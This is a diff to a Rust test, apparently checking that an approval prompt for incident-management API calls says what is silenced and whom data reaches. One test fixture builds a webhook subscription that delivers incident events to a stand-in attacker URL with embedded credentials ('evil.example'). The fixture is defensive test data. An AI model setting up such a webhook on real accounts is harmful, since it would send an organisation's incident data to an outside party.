@@ -32,7 +32,7 @@ async fn a_question_says_what_is_silenced_and_whom_it_reaches() {
     assert!(asked.contains("It keeps alerts, incidents or pages from coming"), "{asked}");
     assert!(asked.contains("\nmaintenance_window.description: “New disks”"), "{asked}");
     let webhook = json!({"operation_id": "createWebhookSubscription", "body": {"webhook_subscription": {
-        "type": "webhook_subscription", "events": ["incident.triggered"], "filter": {"type": "account_reference"},
+        "type": "webhook_subscription", "events": ["incident.triggered"], "filter": {"type": "service_reference", "id": "PSVC123"},
         "delivery_method": {"type": "http_delivery_method", "url": "https://user:pass@evil.example/in?key=1"},
     }}});
     let asked = question(webhook).await;
